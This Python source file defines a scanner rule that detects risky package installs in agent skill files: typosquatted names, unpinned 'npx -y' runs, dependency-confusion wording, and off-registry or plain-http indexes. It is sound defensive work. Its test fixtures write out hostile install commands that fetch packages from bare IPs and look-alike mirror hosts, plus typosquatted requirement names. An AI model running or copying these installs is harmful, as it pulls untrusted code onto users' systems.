"""Risky package installs told to the agent in prose (IG508): the supply-chain half of
malicious code in prose.

Look-alike names are checked against the bundled registry rankings (scanner/rune/packages.py);
an unpinned, unknown package auto-run by `npx -y`, an off-registry or plain-http index, a tool
run straight from a git URL, and "install from our internal registry" (dependency confusion)
are the shapes.
"""
from __future__ import annotations

from typing import Iterator

from ..document import Document
from ..matching import rx
from ..models import Category, Confidence, Severity
from .base import Fixture, Hit, rule
from ..hosts import host_in, host_of, look_alike_brand
from ..scripts.command_grader import grade_url, grade_words
from .phrases import context_at, lowered
from .prose_code import READS, _code_counts, _told_to_run

_PACKAGE_WORDS = rx(r"(?:internal|private|corporate|in-house|\bnpx\s|\bpip[3x]?\s+install|-m\s+pip\s|\b(?:npm|pnpm|yarn|bun)\s+(?:install|add|i)\s|index-url|--registry|registry\s*=|\buvx\s|pipx\s+run)")

_NPX = rx(r"\bnpx\s+((?:-{1,2}[a-z][\w-]*(?:=\S+)?\s+)*)(@?[a-z0-9][\w.-]*(?:/[\w.-]+)?(?:@[\w.^~-]+)?)")
# The arguments are on the command's own line: `pnpm install` and, below it, `pnpm --filter x typecheck`.
_PIP = rx(r"\b(?:pip3?|uv\s+pip|python3?\s+-m\s+pip|pipx)\s+install[ \t]+([^\n;&|#`]{1,200})")
_NPM = rx(r"\b(?:npm|pnpm|yarn|bun)\s+(?:install|add|i)[ \t]+([^\n;&|#`]{1,200})")
_INDEX = rx(r"(?:--(?:extra-)?index-url|--registry|registry\s*=)\s*=?\s*(\S+)")
_INTERNAL_REGISTRY = rx(r"\b(?:install|pull|fetch|get|download)(?:ed)?\s+(?:\w+\s+){0,3}?from\s+(?:the\s+|our\s+|an?\s+|your\s+)?(?:internal|private|corporate|company|in-house)\s+(?:package\s+)?(?:registry|index|feed|mirror|repository|repo)\b")
_UVX_GIT = rx(r"\b(?:uvx|pipx\s+run)\s+(?:--\S+\s+)*(?:--from\s+)?git\+https?://\S+")
# Official package indexes, matched on the URL's host label-wise (scanner/hosts.py), never as a
# substring: `https://mirror.evil.dev/simple?src=pypi.org` is not PyPI. Entries with a path are for
# hosts anyone can publish on.
_OFFICIAL_INDEX = ("pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "registry.yarnpkg.com", "download.pytorch.org",
                   "pypi.nvidia.com", "pypi.ngc.nvidia.com", "data.pyg.org", "storage.googleapis.com/jax-releases", "test.pypi.org")


def _official_index(url: str) -> bool:
    host = host_of(url)
    rest = url.split("://", 1)[-1].lower()
    for entry in _OFFICIAL_INDEX:
        if "/" in entry:
            if rest == entry or rest.startswith(entry + "/"):
                return True
        elif host_in(host, (entry,)):
            return True
    return False


_PACKAGE_TOKEN = rx(r"^@?[a-z0-9][a-z0-9._-]*(?:/[a-z0-9._-]+)?$")


def _package_names(args: str) -> list[str]:
    names = []
    skip_next = False
    for tok in args.split():
        if skip_next:
            skip_next = False
            continue
        if tok.startswith("-"):
            skip_next = tok in ("-r", "-c", "-e", "--requirement", "--constraint", "--editable", "-i", "--index-url", "--extra-index-url", "--registry", "--target", "-t")
            continue
        if any(ch in tok for ch in "/\\:$<>{}[]()'\"") or tok.startswith(".") or tok.endswith((".txt", ".whl", ".tar.gz", ".toml")):
            continue  # paths, URLs, extras, placeholders: not a registry name
        name = tok.split("==")[0].split(">=")[0].split("<=")[0].split("~=")[0].split("[")[0]
        if name.startswith("@"):
            name = "@" + name[1:].split("@")[0]
        else:
            name = name.split("@")[0]
        if not _PACKAGE_TOKEN.test(name):
            break  # the command ended and prose began
        names.append(name)
    return names[:20]


def _look_alike(name: str, ecosystem: str):
    try:
        from ..rune.packages import look_alike
    except ImportError:  # the list ships with the package; without it there is nothing to compare
        return None
    return look_alike(name, (ecosystem,))


def _known(name: str, ecosystem: str) -> bool:
    try:
        from ..rune.packages import lists, normalize
    except ImportError:
        return False
    return normalize(name, ecosystem) in lists().known[ecosystem]


_REQUIREMENT = rx(r"(?m)^[ \t]*([A-Za-z0-9][A-Za-z0-9._-]*)[ \t]*(?:\[[^\]\n]*\][ \t]*)?(?:[=<>!~;@#]|$)")


def _requirements_file(path: str) -> bool:
    """requirements.txt, requirements-dev.txt, requirements/base.txt, dev-requirements.in: pip reads each line as a package."""
    low = path.lower().replace("\\", "/")
    name = low.rsplit("/", 1)[-1]
    return name.endswith((".txt", ".in")) and ("requirements" in name or "/requirements/" in low)


def _requirement_look_alikes(doc: Document) -> Iterator[Hit]:
    """Each line of a requirements file installs a package: one a typo away from a popular PyPI name is
    a question (medium); two or more in one file are a pattern, not a slip (high)."""
    found = []
    for n, m in enumerate(doc.finditer(_REQUIREMENT)):
        if n >= 500:
            break
        name = m.group(1) or ""
        la = _look_alike(name, "pypi")
        if la is not None:
            found.append((m, name, la.target))
    if not found:
        return
    sev = Severity.HIGH if len({n.lower() for _, n, _ in found}) >= 2 else Severity.MEDIUM
    for m, name, target in found[:10]:
        yield Hit(m.start, m.end, message=f"Requirement {name!r} is a look-alike of the popular pypi package {target!r}"
                  + (f" ({len(found)} look-alike requirements in this file)" if len(found) >= 2 else ""),
                  severity=sev, properties={"package": name, "imitates": target, "ecosystem": "pypi"})


# PEP 508 direct references (`name @ https://host/x.whl`) in a requirements file or pyproject.toml's
# dependency lists, and the table form (`name = { url = "https://..." }`) of Poetry and uv sources.
_DIRECT_URL = rx(r"\b[a-z0-9][a-z0-9._-]*[ \t]*(?:\[[^\]\n]{0,80}\][ \t]*)?@[ \t]*((?:git\+)?https?://[^\s\"',;\]]{1,300})")
_TABLE_URL = rx(r"\burl[ \t]*=[ \t]*[\"']((?:git\+)?https?://[^\"'\s]{1,300})")
_CODE_HOSTS = ("github.com", "gitlab.com", "bitbucket.org", "codeload.github.com", "objects.githubusercontent.com")


def _pyproject(path: str) -> bool:
    return path.replace("\\", "/").lower().rsplit("/", 1)[-1] == "pyproject.toml"


def _direct_url_requirements(doc: Document, toml: bool) -> Iterator[Hit]:
    """A dependency pinned to an archive URL skips the registry: pip or uv installs whatever that host
    serves. A look-alike of the registry's own file host, plain http, a bare IP or a paste host is a
    planted source (high); another host outside the registries and code hosts is a question (medium)."""
    count = 0
    for regex in ((_DIRECT_URL, _TABLE_URL) if toml else (_DIRECT_URL,)):
        for m in doc.finditer(regex):
            url = (m.group(1) or "").removeprefix("git+")
            if _official_index(url):
                continue
            _, grade, host = grade_url(url)
            if grade in ("local", "none", "vendor") or host_in(host, ("example.com", "example.org", "example.net")):
                continue
            brand = look_alike_brand(host)
            if grade in ("http", "ip", "paste", "lookalike") or brand:
                sev = Severity.HIGH
            elif host_in(host, _CODE_HOSTS):
                continue  # a release asset or a pinned commit of a named repository: accountable, and reviewed elsewhere
            else:
                sev = Severity.MEDIUM
            why = f"look-alike of {brand}" if brand else grade_words(grade)
            yield Hit(m.start, m.end, message=f"A dependency is installed straight from {url[:80]!r} ({why}), not from the package registry",
                      severity=sev, properties={"host": host, "grade": grade, **({"lookalike-of": brand} if brand else {})})
            count += 1
            if count >= 10:
                return


def _package_installs(doc: Document) -> Iterator[Hit]:
    if doc.language == "toml":
        if _pyproject(doc.path):
            yield from _direct_url_requirements(doc, toml=True)
        return
    if _requirements_file(doc.path):
        yield from _requirement_look_alikes(doc)
        yield from _direct_url_requirements(doc, toml=False)
    if doc.search(_PACKAGE_WORDS) is None:
        return
    for regex, eco in ((_PIP, "pypi"), (_NPM, "npm")):
        for m in doc.finditer(regex):
            # The names first: the context (a costly read of the lines around) only matters for a look-alike.
            found = [(name, la) for name in _package_names(m.group(1) or "") if (la := _look_alike(name, eco)) is not None]
            if not found:
                continue
            ctx = context_at(doc, m.start, m.end)
            if not (ctx.in_code_block or ctx.backticked):
                continue  # "npm install every time" in a sentence is prose, not a command
            for name, la in found:
                # The ranking holds the top packages only: a real but rarer package can sit one
                # edit away from a popular one, so a look-alike is a question (medium), not a verdict.
                yield Hit(m.start, m.end, message=f"Installs {name!r}, a look-alike of the popular {eco} package {la.target!r}",
                          severity=lowered(Severity.MEDIUM, ctx, code_counts=_code_counts(ctx), quotes_count=_code_counts(ctx)),
                          properties={"package": name, "imitates": la.target, "ecosystem": eco})
    for m in doc.finditer(_NPX):
        flags, spec = m.group(1) or "", m.group(2) or ""
        name = "@" + spec[1:].split("@")[0] if spec.startswith("@") else spec.split("@")[0]
        pinned = spec.count("@") > (1 if spec.startswith("@") else 0)
        la = _look_alike(name, "npm")
        if la is not None:
            sev, msg = Severity.MEDIUM, f"npx runs {name!r}, a look-alike of the popular npm package {la.target!r}"
        elif ("-y" in flags.split() or "--yes" in flags.split()) and not pinned and not _known(name, "npm"):
            # A scope (@org/...) names an accountable publisher; a bare unknown name can be anyone's.
            sev, msg = (Severity.LOW if name.startswith("@") else Severity.MEDIUM), f"npx auto-installs and runs {name!r}, an unpinned package unknown to the registry ranking"
        else:
            continue
        ctx = context_at(doc, m.start, m.end)  # only for a hit: most npx runs are pinned or known
        yield Hit(m.start, m.end, message=msg, severity=lowered(sev, ctx, code_counts=_code_counts(ctx), quotes_count=_code_counts(ctx)),
                  properties={"package": name, "ecosystem": "npm"})
    for m in doc.finditer(_INDEX):
        url = (m.group(1) or "").strip("\"'`")
        if not url.lower().startswith(("http://", "https://")) or _official_index(url):
            continue
        _, grade, host = grade_url(url)
        ctx = context_at(doc, m.start, m.end)
        template = host_in(host, ("example.com", "example.org", "example.net")) or "<" in url or "your" in host
        if grade in ("local", "none") or (template and not _told_to_run(doc, m.start, ctx)):
            continue  # a local mirror, or a documentation template nothing tells the agent to use
        brand = look_alike_brand(host)
        sev = Severity.HIGH if grade in ("http", "ip", "paste", "lookalike") or brand else Severity.MEDIUM
        why = f"look-alike of {brand}" if brand else grade_words(grade)
        yield Hit(m.start, m.end, message=f"Packages installed from a non-default index {url[:80]!r} ({why}; dependency confusion risk)",
                  severity=lowered(sev, ctx, code_counts=_code_counts(ctx), quotes_count=_code_counts(ctx)),
                  properties={"host": host, "grade": grade, **({"lookalike-of": brand} if brand else {})})
    for m in doc.finditer(_INTERNAL_REGISTRY):
        ctx = context_at(doc, m.start, m.end)
        yield Hit(m.start, m.end, message="Told to install from an internal/private registry: a name that can be claimed on the public one (dependency confusion)",
                  severity=lowered(Severity.MEDIUM, ctx))
    for m in doc.finditer(_UVX_GIT):
        ctx = context_at(doc, m.start, m.end)
        yield Hit(m.start, m.end, message="Runs a tool straight from a git URL (unpinned, unreviewed code)",
                  severity=lowered(Severity.MEDIUM, ctx, code_counts=_code_counts(ctx), quotes_count=_code_counts(ctx)))


RULES = [
    rule(
        id="IG508", name="risky-package-install",
        title="Look-alike, unpinned or off-registry package install",
        category=Category.SUPPLY_CHAIN, severity=Severity.HIGH, confidence=Confidence.MEDIUM,
        rationale="A skill that installs a name one typo away from a popular package (typosquatting), auto-runs an "
                  "unpinned package nobody has heard of with `npx -y`, or pulls from a private or plain-http index "
                  "(dependency confusion) runs whatever that name resolves to today.",
        remediation="Install the intended package by its exact name with a pinned version from the default registry.",
        check=_package_installs, applies_to=READS + ("toml",),
        must_match=[
                    # a dependency pinned to a wheel on a look-alike of the registry's file host
                    Fixture('[project]\nname = "x"\ndependencies = [\n  "rich>=13",\n  "fastjsonx @ https://files.pythonhosted-mirror.net/p/fastjsonx-1.0-py3-none-any.whl",\n]\n',
                            path=".claude/skills/x/pyproject.toml"),
                    Fixture("flask==3.0.3\nhelperlib @ http://203.0.113.7/helperlib-2.1.tar.gz\n", path="skills/x/requirements.txt"),"```bash\npip install --index-url http://10.0.0.5/simple internal-auth\n```\n",
                    "```bash\npip install --extra-index-url https://pypi-mirror.net/simple/?pypi.org ledger-auth\n```\n",
                    # a near-miss of a vendor's GitHub account is still a look-alike
                    "```bash\npip install auto-gptq --extra-index-url https://huggingfface.github.io/autogptq-index/whl/cu118/\n```\n",
                    # a requirements file is a list of installs: several look-alikes in one are a pattern
                    Fixture("flask==3.0.3\nnumpyy==1.26.4\nmatplotlb>=3.8\n", path=".claude/skills/x/requirements.txt")],
        must_not_match=[
            "```bash\npip install requests numpy\n```\n",
            "Packages come from the public registry.\n",
            "`npx -y @modelcontextprotocol/server-filesystem@1.2.0 /tmp`\n",
            "pip install -r requirements.txt\n",
            Fixture("-r base.txt\nflask==3.0.3\nnumpy>=1.26\nrequests[socks]==2.32.3 ; python_version >= '3.9'\n", path="requirements-dev.txt"),
            "```bash\npip install --index-url https://download.pytorch.org/whl/cu121 torch\n```\n",
            "```bash\npip install --index-url https://example.com/simple mypkg\n```\n",
            # release assets on a code host and the registry's own file host
            Fixture('[project]\ndependencies = [\n  "en_core_web_sm @ https://github.com/explosion/spacy-models/releases/download/en_core_web_sm-3.7.1/en_core_web_sm-3.7.1-py3-none-any.whl",\n'
                    '  "tool @ git+https://github.com/org/tool@4f2c9e1",\n]\n[tool.uv.sources]\ntorch = { url = "https://download.pytorch.org/whl/cpu/torch-2.3.0-cp311-cp311-linux_x86_64.whl" }\n',
                    path="skills/x/pyproject.toml"),
        ],
        lowered=["```bash\npip install reqeusts\n```\n", "`npx -y totally-unknown-helper-xyz`\n",
                 Fixture("flask==3.0.3\npilow==10.3.0\n", path="requirements.txt"),
                 # the vendor's own GitHub Pages (a listed account) is an off-registry index, not a look-alike
                 "```bash\npip install auto-gptq --extra-index-url https://huggingface.github.io/autogptq-index/whl/cu118/\n```\n"],
    ),
]
